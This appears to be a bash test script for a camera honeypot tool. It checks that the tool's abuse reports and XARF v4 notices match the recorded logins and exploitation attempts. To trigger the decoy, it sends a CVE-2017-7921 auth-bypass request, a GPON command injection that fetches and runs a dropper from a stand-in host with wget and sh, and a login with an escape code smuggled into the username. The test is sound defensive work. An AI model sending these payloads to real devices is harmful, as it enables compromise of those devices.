#!/usr/bin/env bash
# t_abuse: who to tell. A viewer at 8.8.8.8 (through a trusted proxy) is
# shown a credential and logs in with it over Basic; 203.0.113.5 tries a
# wrong one. `camdecoy-report abuse` puts 8.8.8.8 under AS15169 (the ASN
# database looked up at record time) with the view that showed the
# credential, and the other under its own AS; its rows agree with the raw
# logins; `--format xarf --asn 15169` writes XARF v4 login_attack reports
# that a validator in this test accepts (required fields, formats, the
# evidence's base64 and SHA-256), about AS15169's address only; its
# exploitation attempts (CVE-2017-7921 twice, a GPON dropper) a
# connection/vulnerability_scan notice whose figures are the raw rows'.
. "$(dirname "$0")/lib.sh"

start_decoy --persona hikvision --trust-proxy 127.0.0.1/32 --event-rate 0 || { finish; exit 1; }
stream_frame "$BASE/ISAPI/Streaming/channels/102/httpPreview" "$TMP/v.jpg" -A abuse-watcher \
	-H "X-Forwarded-For: 8.8.8.8"
wait_sql "SELECT COUNT(*) FROM views WHERE user_agent = 'abuse-watcher' AND trap_password IS NOT NULL" 1
user="$(sql "SELECT trap_username FROM views WHERE user_agent = 'abuse-watcher'")"
pass="$(sql "SELECT trap_password FROM views WHERE user_agent = 'abuse-watcher'")"
view="$(sql "SELECT id FROM views WHERE user_agent = 'abuse-watcher'")"
check "the view is from 8.8.8.8 in AS15169" \
	[ "$(sql "SELECT src_ip || ' ' || asn || ' ' || as_org FROM views WHERE id = $view")" = "8.8.8.8 15169 GOOGLE" ]
curl -s -o /dev/null -u "$user:$pass" -H "X-Forwarded-For: 8.8.8.8" -A abuse-login "$BASE/ISAPI/Security/userCheck"
curl -s -o /dev/null -u $'admin\x1b[31m:12345' -H "X-Forwarded-For: 203.0.113.5" "$BASE/ISAPI/Security/userCheck"
wait_sql "SELECT COUNT(*) FROM logins" 2
# exploitation attempts from 8.8.8.8: CVE-2017-7921 twice, a GPON injection with a dropper
for i in 1 2; do
	curl -s -o /dev/null -H "X-Forwarded-For: 8.8.8.8" "$BASE/Security/users?auth=YWRtaW46MTEK&n=$i"
done
# shellcheck disable=SC2016 # the backquotes are the attacker's, sent as they are
curl -s -o /dev/null -H "X-Forwarded-For: 8.8.8.8" --data-binary \
	'XWebPageName=diag&dest_host=`wget http://198.51.100.99/m -O /tmp/g`;sh /tmp/g' "$BASE/GponForm/diag_Form?images/"
wait_sql "SELECT COUNT(*) FROM exploits WHERE src_ip = '8.8.8.8'" 3
stop_decoy

"$REPORT" --db "$DB" --format json abuse >"$TMP/abuse.json"
check "abuse --format json runs" [ $? = 0 ]
"$REPORT" --db "$DB" abuse >"$TMP/abuse.text"
check "the text form holds no raw escape byte" bash -c "! grep -q $'\x1b' '$TMP/abuse.text'"
python3 - "$TMP/abuse.json" "$view" "$DB" >"$TMP/abuse.out" 2>&1 <<'PY'
import json, sqlite3, sys
import camclient
doc = json.load(open(sys.argv[1]))
rows = doc["abuse"] if isinstance(doc, dict) else doc
if isinstance(rows, dict):
    rows = rows.get("rows", rows)
view = int(sys.argv[2])
checks = camclient.Checks()
want = checks.want
g = [r for r in rows if r["src_ip"] == "8.8.8.8"]
want("8.8.8.8 is under AS15169 GOOGLE", len(g) == 1 and g[0]["asn"] == 15169 and g[0]["as_org"] == "GOOGLE")
want("with the view that showed the credential, shown only in our picture",
     len(g) == 1 and g[0]["view_id"] == view and g[0]["shown_only_in_picture"] == 1 and g[0]["match_kind"] == "exact"
     and g[0]["channel"] == "basic" and g[0]["view_src_ip"] == "8.8.8.8" and g[0]["time_utc"].endswith("Z"))
o = [r for r in rows if r["src_ip"] == "203.0.113.5"]
want("203.0.113.5 under its own AS", len(o) == 1 and o[0]["asn"] == 64501 and o[0]["shown_only_in_picture"] == 0)
want("its request lines are the evidence", len(g) == 1 and "GET /ISAPI/Security/userCheck" in (g[0]["request_lines"] or ""))
db = sqlite3.connect(sys.argv[3])
n = db.execute("SELECT COUNT(*) FROM logins").fetchone()[0]
per = dict(db.execute("SELECT asn, COUNT(*) FROM logins GROUP BY asn").fetchall())
mine = {}
for r in rows:
    mine[r["asn"]] = mine.get(r["asn"], 0) + 1
want("one row per login, per AS as in the raw rows (%d)" % n, len(rows) == n and mine == per)
sys.exit(checks.status())
PY
rc=$?
cat "$TMP/abuse.out"
check "the abuse table says what the rows say" [ "$rc" = 0 ]

"$REPORT" --db "$DB" --format xarf --asn 15169 abuse >"$TMP/xarf.err" 2>&1
check "xarf without a reporter is refused, by name" grep -q -- "--reporter-org" "$TMP/xarf.err"
"$REPORT" --db "$DB" --format xarf --asn 15169 --reporter-org "Camdecoy Test Lab" \
	--reporter-contact abuse@example.org --reporter-domain example.org abuse >"$TMP/xarf.jsonl"
check "xarf runs" [ $? = 0 ]
python3 - "$TMP/xarf.jsonl" <<'PY' >"$TMP/xarf.out" 2>&1
import base64, datetime, hashlib, json, re, sys, uuid
import camclient
# What XARF v4's core and connection/login_attack schemas require, checked here.
lines = [l for l in open(sys.argv[1]) if l.strip()]
checks = camclient.Checks()
want = checks.want
def when(s):
    return isinstance(s, str) and datetime.datetime.fromisoformat(s.replace("Z", "+00:00")).tzinfo is not None
def contact(c):
    return (isinstance(c, dict) and set(c) == {"org", "contact", "domain"} and 0 < len(c["org"]) <= 200
            and re.fullmatch(r"[^@\s]+@[^@\s]+\.[a-z]+", c["contact"]) and re.fullmatch(r"[a-z0-9.-]+\.[a-z]+", c["domain"]))
want("a login notice and an exploitation notice for AS15169's address (%d)" % len(lines), len(lines) == 2)
for l in lines:
    r = json.loads(l)
    login = r["type"] == "login_attack"
    req = ["xarf_version", "report_id", "timestamp", "reporter", "sender", "source_identifier", "category", "type",
           "protocol", "first_seen"]
    want("required fields", all(k in r for k in req))
    want("version 4.x.y", re.fullmatch(r"4\.[0-9]+\.[0-9]+", r["xarf_version"]) is not None)
    want("report_id is a UUID v4", uuid.UUID(r["report_id"]).version == 4)
    want("times are ISO 8601 with a zone", when(r["timestamp"]) and when(r["first_seen"]) and when(r["last_seen"]))
    want("reporter and sender", contact(r["reporter"]) and contact(r["sender"]))
    want("connection / login_attack or vulnerability_scan over tcp", r["category"] == "connection"
         and r["type"] in ("login_attack", "vulnerability_scan") and r["protocol"] == "tcp")
    want("a vulnerability_scan's scan_type, total_requests and CVEs", login or (r["scan_type"] == "vulnerability_scan"
         and isinstance(r["total_requests"], int) and r["total_requests"] >= 1
         and all(isinstance(v, str) for v in r["vulnerabilities_probed"])))
    want("about 8.8.8.8 only", r["source_identifier"] == "8.8.8.8" and "203.0.113.5" not in l)
    want("confidence in [0, 1], a honeypot", 0 <= r["confidence"] <= 1 and r["evidence_source"] == "honeypot")
    want("tags namespaced", all(re.fullmatch(r"[a-z0-9][a-z0-9_+-]*:[a-z0-9][a-z0-9_+.-]*", t) for t in r["tags"]))
    ev = r["evidence"]
    want("evidence items", 1 <= len(ev) <= 50 and all(set(e) <= {"content_type", "description", "payload", "hash", "size"} for e in ev))
    for e in ev:
        body = base64.b64decode(e["payload"], validate=True)
        want("evidence hash matches its payload", e["hash"] == "sha256:" + hashlib.sha256(body).hexdigest())
        want("evidence size", e["size"] == len(body))
        want("the evidence says the credential was only in our picture", not login or b"shown only in the decoy's picture" in body)
sys.exit(checks.status())
PY
rc=$?
cat "$TMP/xarf.out"
check "the XARF notice validates" [ "$rc" = 0 ]
# the exploitation notice's figures recomputed from the raw exploits rows
python3 - "$TMP/xarf.jsonl" "$DB" <<'PY' >"$TMP/xarfx.out" 2>&1
import base64, json, re, sqlite3, sys
import camclient
checks = camclient.Checks()
want = checks.want
db = sqlite3.connect(sys.argv[2])
raw = db.execute("SELECT rule, COUNT(*), strftime('%Y-%m-%dT%H:%M:%SZ', MIN(ts) / 1000, 'unixepoch'),"
                 " strftime('%Y-%m-%dT%H:%M:%SZ', MAX(ts) / 1000, 'unixepoch'), IFNULL(MAX(cve), '')"
                 " FROM exploits WHERE asn = 15169 GROUP BY rule ORDER BY rule").fetchall()
url = db.execute("SELECT ioc_urls FROM exploits WHERE asn = 15169 AND ioc_urls IS NOT NULL ORDER BY ts, id").fetchone()
x = [json.loads(l) for l in open(sys.argv[1]) if '"vulnerability_scan"' in l]
want("an exploitation notice for 8.8.8.8", len(x) == 1 and x[0]["source_identifier"] == "8.8.8.8")
r = x[0]
body = base64.b64decode(r["evidence"][0]["payload"]).decode()
mine = [(m[4], int(m[3]), m[1], m[2], m[5] or "") for m in
        re.finditer(r"^(\S+) \.\. (\S+) (\d+) attempt\(s\) of rule ([^,;\n]+)(?:, (CVE-[0-9-]+))?", body, re.M)]
print(raw, mine, sep="\n")
want("per rule its attempts, first and last seen, CVE as the raw rows say", mine == raw)
want("total_requests is the raw rows' count", r["total_requests"] == sum(n for _, n, _, _, _ in raw))
want("first/last seen", r["first_seen"] == min(f for _, _, f, _, _ in raw) and r["last_seen"] == max(l for _, _, _, l, _ in raw))
want("the CVEs probed", sorted(r["vulnerabilities_probed"]) == sorted({c or ru for ru, _, _, _, c in raw}))
want("the dropper's URL is the sample indicator", url is not None and ("URLs: " + url[0]) in body)
sys.exit(checks.status())
PY
rc=$?
cat "$TMP/xarfx.out"
check "the exploitation notice says what the raw exploits rows say" [ "$rc" = 0 ]
"$REPORT" --db "$DB" report --out "$TMP/report" >/dev/null
check "report --out writes the abuse table too" grep -q '^15169,"GOOGLE",.*,"8.8.8.8",' "$TMP/report/abuse.csv"
finish
